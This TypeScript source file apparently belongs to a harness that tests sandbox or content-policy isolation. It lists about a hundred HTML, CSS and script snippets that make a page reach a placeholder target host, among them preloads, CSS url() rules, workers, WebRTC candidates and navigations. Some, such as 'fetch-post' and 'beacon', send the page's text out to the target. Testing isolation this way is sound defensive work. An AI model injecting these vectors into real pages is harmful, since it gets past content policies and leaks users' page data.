/** A target that a page tries to reach. */
export interface Target {
  /** As in a URL. */
  readonly host: string;
  readonly port: number;
  /** "http" by default. */
  readonly scheme?: 'http' | 'https' | undefined;
  /** An address that redirects to it, in place of its own. */
  readonly redirectVia?: string | undefined;
}

/** One escape to a target: HTML (it begins with "<") or a script, which the page inserts into itself at run time. */
export type AttackVector = (target: Target) => string;

/** A vector's text, with the target's URL, that URL as https, its host and its port in place of these words. */
const vector =
  (text: string): AttackVector =>
  ({ host, port, scheme = 'http', redirectVia }) =>
    text
      .replaceAll('$URL', redirectVia ?? `${scheme}://${host}:${port}/x`)
      .replaceAll('$TLS', `https://${host}:${port}/x`)
      .replaceAll('$HOST', host)
      .replaceAll('$ADDRESS', host.replace(/^\[|\]$/g, ''))
      .replaceAll('$PORT', String(port));

const vectors = (texts: Readonly<Record<string, string>>): Readonly<Record<string, AttackVector>> =>
  Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, vector(text)]));

const link = (rel: string, more = ''): string => `<link rel="${rel}" href="$URL" ${more}>`;
const css = (style: string): string => `<style>${style}</style>`;
const rules = (of: object): string => `<script type="speculationrules">${JSON.stringify(of)}</script>`;
/** A connection that gathers its own addresses through these servers. */
const rtc = (urls: string): string => `
  const connection = new RTCPeerConnection({ iceServers: [{ urls: '${urls}', username: 'a', credential: 'b' }] });
  connection.createDataChannel('x');
  connection.setLocalDescription();`;
/** A connection to a peer that is claimed to be at the target. */
const peer = (protocol: string, more = ''): string => `
  const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()];
  a.createDataChannel('x');
  (async () => {
    await a.setLocalDescription();
    await b.setRemoteDescription(a.localDescription);
    await b.setLocalDescription();
    await a.setRemoteDescription(b.localDescription);
    const candidate = 'candidate:1 1 ${protocol} 2122260223 $ADDRESS $PORT typ host${more}';
    await a.addIceCandidate({ sdpMid: '0', candidate });
  })();`;

/** Every known escape that leaves the page in place, by name. They may use a part of the page with the id `far`. */
export const IN_PAGE_VECTORS = vectors({
  'rules-prefetch': rules({ prefetch: [{ urls: ['$URL'], eagerness: 'immediate' }] }),
  'rules-prefetch-anonymous': rules({
    prefetch: [{ urls: ['$URL'], requires: ['anonymous-client-ip-when-cross-origin'] }],
  }),
  'rules-prerender': rules({ prerender: [{ urls: ['$URL'], eagerness: 'immediate' }] }),
  'rules-document': `<a href="$URL">x</a>${rules({ prefetch: [{ where: { href_matches: '$URL*' }, eagerness: 'immediate' }] })}`,
  preconnect: link('preconnect'),
  'preconnect-cors': link('preconnect', 'crossorigin'),
  'dns-prefetch': link('dns-prefetch'),
  'dns-prefetch-on': `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="$URL">x</a><link rel="dns-prefetch" href="$URL">`,
  prefetch: link('prefetch'),
  'prefetch-document': link('prefetch', 'as="document"'),
  prerender: link('prerender'),
  next: link('next'),
  'preload-image': link('preload', 'as="image"'),
  'preload-script': link('preload', 'as="script"'),
  'preload-style': link('preload', 'as="style"'),
  'preload-font': link('preload', 'as="font" crossorigin'),
  'preload-fetch': link('preload', 'as="fetch"'),
  modulepreload: link('modulepreload'),
  icon: link('icon'),
  'apple-touch-icon': link('apple-touch-icon'),
  manifest: link('manifest'),
  'compression-dictionary': link('compression-dictionary'),
  stylesheet: link('stylesheet'),
  'alternate-stylesheet': link('alternate stylesheet', 'title="x"'),
  'css-import': css('@import url($URL);'),
  'css-background': css('#far { background: url($URL) }'),
  'css-image-set': css('#far p { background: image-set("$URL" 1x) }'),
  'css-content': css('#far::after { content: url($URL) }'),
  'css-border': css('#far { border: 1px solid; border-image: url($URL) 1 }'),
  'css-mask': css('#far { mask: url($URL) }'),
  'css-filter': css('#far { filter: url($URL#f) }'),
  'css-shape': css('#far p { float: left; shape-outside: url($URL) }'),
  'css-cursor': css('#far { cursor: url($URL), auto }'),
  'css-list': css('#far p { display: list-item; list-style-image: url($URL) }'),
  'css-font': css('@font-face { font-family: far; src: url($URL) } #far { font-family: far }'),
  'font-face': "new FontFace('far2', 'url($URL)').load().catch(() => 0)",
  paint: "CSS.paintWorklet.addModule('$URL').catch(() => 0)",
  img: '<img src="$URL">',
  'img-srcset': '<img srcset="$URL 1x">',
  'img-attribution': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" attributionsrc="$URL">',
  picture: '<picture><source srcset="$URL"><img></picture>',
  'input-image': '<input type="image" src="$URL">',
  'table-background': '<table background="$URL"><tr><td>x</table>',
  'svg-image': '<svg><image href="$URL" width="1" height="1"/></svg>',
  'svg-use': '<svg><use href="$URL#x"/></svg>',
  'svg-fe-image':
    '<svg><filter id="far"><feImage href="$URL"/></filter><rect filter="url(#far)" width="9" height="9"/></svg>',
  'svg-script': '<svg><script href="$URL"></script></svg>',
  video: '<video src="$URL" preload="auto"></video>',
  'video-poster': '<video poster="$URL"></video>',
  audio: '<audio src="$URL" preload="auto" autoplay></audio>',
  track: '<video src="data:video/mp4,"><track default kind="subtitles" src="$URL"></video>',
  object: '<object data="$URL"></object>',
  embed: '<embed src="$URL">',
  iframe: '<iframe src="$URL"></iframe>',
  'iframe-srcdoc': `<iframe srcdoc='<img src="$URL">'></iframe>`,
  fencedframe: `const frame = document.createElement('fencedframe'); frame.config = new FencedFrameConfig('$TLS'); document.body.append(frame)`,
  script: '<script src="$URL"></script>',
  'module-script': '<script type="module" src="$URL"></script>',
  import: "import('$URL').catch(() => 0)",
  worker: "new Worker('$URL')",
  'blob-worker': `new Worker(URL.createObjectURL(new Blob(["fetch('$URL')"], { type: 'text/javascript' })))`,
  'data-worker': `new Worker("data:text/javascript,fetch('$URL')")`,
  'shared-worker': `new SharedWorker("data:text/javascript,fetch('$URL')")`,
  'service-worker': "navigator.serviceWorker.register('$URL').catch(() => 0)",
  fetch: "fetch('$URL').catch(() => 0)",
  'fetch-https': "fetch('$TLS').catch(() => 0)",
  'fetch-post':
    "fetch('$URL', { method: 'POST', mode: 'no-cors', body: document.body.innerText }).catch(() => 0)",
  'fetch-keepalive': "fetch('$URL', { keepalive: true, mode: 'no-cors' }).catch(() => 0)",
  'fetch-later': "fetchLater('$TLS', { activateAfter: 0 })",
  'fetch-userinfo': "const image = new Image(); image.src = 'http://a:b@' + '$HOST:$PORT/x'",
  xhr: "const ask = new XMLHttpRequest(); ask.open('GET', '$URL'); ask.send()",
  'xhr-sync': "const ask = new XMLHttpRequest(); ask.open('GET', '$URL', false); ask.send()",
  'event-source': "new EventSource('$URL')",
  'web-socket': "new WebSocket('ws://$HOST:$PORT/')",
  'web-socket-tls': "new WebSocket('wss://$HOST:$PORT/')",
  'web-socket-stream': "new WebSocketStream('ws://$HOST:$PORT/').opened.catch(() => 0)",
  'web-transport': "new WebTransport('$TLS').ready.catch(() => 0)",
  'web-transport-hashes':
    "new WebTransport('$TLS', { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }).ready.catch(() => 0)",
  beacon: "navigator.sendBeacon('$URL', document.body.innerText)",
  ping: "const a = document.createElement('a'); a.href = '#'; a.ping = '$URL'; document.body.append(a); a.click()",
  'rtc-stun': rtc('stun:$HOST:$PORT'),
  'rtc-turn-udp': rtc('turn:$HOST:$PORT?transport=udp'),
  'rtc-turn-tcp': rtc('turn:$HOST:$PORT?transport=tcp'),
  'rtc-turn-tls': rtc('turns:$HOST:$PORT?transport=tcp'),
  'rtc-peer-udp': peer('udp'),
  'rtc-peer-tcp': peer('tcp', ' tcptype passive'),
  payment:
    "new PaymentRequest([{ supportedMethods: '$TLS' }], { total: { label: 'x', amount: { currency: 'VND', value: '1' } } }).canMakePayment().catch(() => 0)",
  'identity-provider':
    "navigator.credentials.get({ identity: { providers: [{ configURL: '$TLS.json', clientId: 'x' }] } }).catch(() => 0)",
  'related-origin':
    "navigator.credentials.get({ publicKey: { rpId: '$HOST', challenge: new Uint8Array(16) } }).catch(() => 0)",
  'interest-group': "navigator.joinAdInterestGroup({ owner: '$TLS', name: 'x' }, 60).catch(() => 0)",
  'private-token':
    "fetch('$TLS', { privateToken: { version: 1, operation: 'token-request' } }).catch(() => 0)",
  presentation: "new PresentationRequest('$TLS').getAvailability().catch(() => 0)",
  'form-in-frame':
    '<iframe name="far"></iframe><form target="far" method="post" action="$URL"></form><script>document.querySelector(\'form[target=far]\').submit()</script>',
});

const clickLink = (before: string, first = ''): string =>
  `const a = document.createElement('a'); a.href = '$URL'; ${before}document.body.append(a); ${first}a.click()`;

/** Escapes that would navigate the page away, if allowed. */
export const NAVIGATION_VECTORS = vectors({
  location: "location.href = '$URL'",
  navigate: "navigation.navigate('$URL').finished.catch(() => 0)",
  refresh: '<meta http-equiv="refresh" content="0; url=$URL">',
  'window-open': "window.open('$URL')",
  anchor: clickLink('', "a.dispatchEvent(new MouseEvent('mousedown', { bubbles: true })); "),
  'anchor-blank': clickLink("a.target = '_blank'; "),
  form: "const form = document.createElement('form'); form.action = '$URL'; form.method = 'post'; document.body.append(form); form.submit()",
  'unload-beacon': "addEventListener('pagehide', () => navigator.sendBeacon('$URL', 'x'))",
});
